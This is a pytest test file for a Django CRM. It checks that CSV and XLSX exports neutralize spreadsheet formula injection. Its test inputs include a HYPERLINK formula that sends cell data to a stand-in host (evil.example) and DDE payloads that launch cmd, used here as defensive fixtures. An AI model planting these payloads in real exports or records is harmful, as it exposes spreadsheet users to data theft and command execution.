"""No export can be turned against its reader: every CSV and XLSX file OrderCRM writes keeps
formula-like text inert (CSV: a leading quote; XLSX: a string cell, never a formula) and keeps
numbers numbers. The files are read back with the csv module and openpyxl."""

from __future__ import annotations

import csv
import io
import pathlib
import re
from decimal import Decimal

import pytest
from django.urls import reverse

from ordercrm.accounts.access import access_for
from ordercrm.core import spreadsheets

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def read_xlsx(content: bytes):
    from openpyxl import load_workbook

    return list(load_workbook(io.BytesIO(content)).active.iter_rows())


def body(response) -> bytes:
    """A download's bytes (exports are streamed)."""
    return b"".join(response.streaming_content)


def assert_inert_xlsx_cell(cell, text):
    assert cell.value == text.replace("\r", "\n")  # XML reads a CR back as a line feed
    assert cell.data_type == "s", f"{text!r} written as {cell.data_type}"
    assert cell.quotePrefix


@pytest.mark.parametrize("text", HOSTILE)
def test_the_helper_neutralizes_every_trigger_and_keeps_numbers(text):
    row = [text, "plain", Decimal("-12.50"), -3, 4.5, Decimal("0")]
    [_header, got] = read_csv(spreadsheets.write_csv(["a", "b", "c", "d", "e", "f"], [row]))
    assert got == ["'" + text, "plain", "-12.50", "-3", "4.5", "0"]
    cells = read_xlsx(spreadsheets.write_xlsx(["a"] * 6, [row], number_formats={2: "0.00"}))[1]
    assert_inert_xlsx_cell(cells[0], text)
    assert (cells[1].value, cells[1].data_type, cells[1].quotePrefix) == ("plain", "s", False)
    assert [(c.value, c.data_type) for c in cells[2:]] == [
        (-12.5, "n"),
        (-3, "n"),
        (4.5, "n"),
        (0, "n"),
    ]
    assert cells[2].number_format == "0.00"


def test_control_characters_xlsx_cannot_hold_do_not_break_the_file():
    [_header, row] = read_xlsx(spreadsheets.write_xlsx(["a"], [["bad\x01name"]]))
    assert row[0].value == "badname"


@pytest.fixture
def hostile_orders(company, rep, make_customer, stocked):
    from ordercrm.sales import services as sales

    orders = []
    for name in HOSTILE:
        customer = make_customer(company, actor=rep, name=name)
        orders.append(
            sales.order_create(
                company=company,
                actor=rep,
                customer=customer,
                lines=[{"product": stocked[0], "quantity": 1}],
            )
        )
    return orders


@pytest.fixture
def stocked(company, make_user, products):
    from ordercrm.accounts.roles import Role
    from ordercrm.inventory import services as inventory
    from ordercrm.inventory.models import Warehouse

    keeper = make_user(Role.WAREHOUSE, company, username="keeper")
    inventory.stock_receive(
        company=company,
        actor=keeper,
        warehouse=Warehouse.objects.for_company(company).get(code="main"),
        lines=[{"product": p, "quantity": 100} for p in products],
    )
    return products


def test_order_list_export_csv_and_xlsx(client, rep, hostile_orders):
    client.force_login(rep)
    names = {customer.customer.name for customer in hostile_orders}  # as stored (stripped)
    rows = read_csv(body(client.get(reverse("order_export", args=["csv"]))))[1:]
    assert {row[1] for row in rows} == {"'" + name for name in names}
    assert all(Decimal(row[5]) > 0 for row in rows)
    sheet = read_xlsx(body(client.get(reverse("order_export", args=["xlsx"]))))[1:]
    assert len(sheet) == len(hostile_orders)
    for cells in sheet:
        assert cells[1].value in names
        assert_inert_xlsx_cell(cells[1], cells[1].value)
        assert cells[5].data_type == "n"  # the total stays a number


def test_finance_export_csv_and_xlsx(company, make_user, hostile_orders):
    from ordercrm.accounts.roles import Role
    from ordercrm.billing import selectors, services
    from ordercrm.billing.models import Invoice
    from ordercrm.sales import services as sales

    finance = make_user(Role.FINANCE, company, username="fin")
    first = hostile_orders[0]
    order = sales.order_submit(
        order=sales.order_create(
            company=company,
            actor=first.salesperson,
            customer=first.customer,
            invoicing_policy="on_order",
            lines=[{"product": first.lines.first().product, "quantity": 1}],
        ),
        actor=first.salesperson,
    )
    invoice = Invoice.objects.for_company(company).get(order=order)
    services.payment_record(
        company=company,
        actor=finance,
        customer=order.customer,
        amount="1.00",
        currency=order.currency,
        method="cash",
        reference="=cmd|' /C calc'!A0",
        allocations=[{"invoice": invoice, "amount": "1.00"}],
    )
    access = access_for(finance, company)
    day = invoice.issue_date
    _name, content, _type = selectors.finance_export(access, day, day, "csv")
    rows = read_csv(content)[1:]
    name = order.customer.name
    assert {row[6] for row in rows} == {"'" + name}
    payment_row = next(row for row in rows if row[0] == "payment")
    assert payment_row[9] == "'=cmd|' /C calc'!A0"
    _name, content, _type = selectors.finance_export(access, day, day, "xlsx")
    sheet = read_xlsx(content)[1:]
    for cells in sheet:
        assert_inert_xlsx_cell(cells[6], name)
        assert cells[13].data_type == "n"
        assert cells[13].number_format == "#,##0.00"
    payment_cells = next(cells for cells in sheet if cells[0].value == "payment")
    assert_inert_xlsx_cell(payment_cells[9], "=cmd|' /C calc'!A0")


def test_every_export_writes_through_the_one_helper():
    """Nothing but ``core/spreadsheets.py`` writes CSV or XLSX, so no export can skip the rule."""
    root = pathlib.Path(__file__).resolve().parent.parent / "ordercrm"
    writer = re.compile(r"csv\.(writer|DictWriter)\(|openpyxl|xlsxwriter")
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and path.name != "spreadsheets.py"
        and writer.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
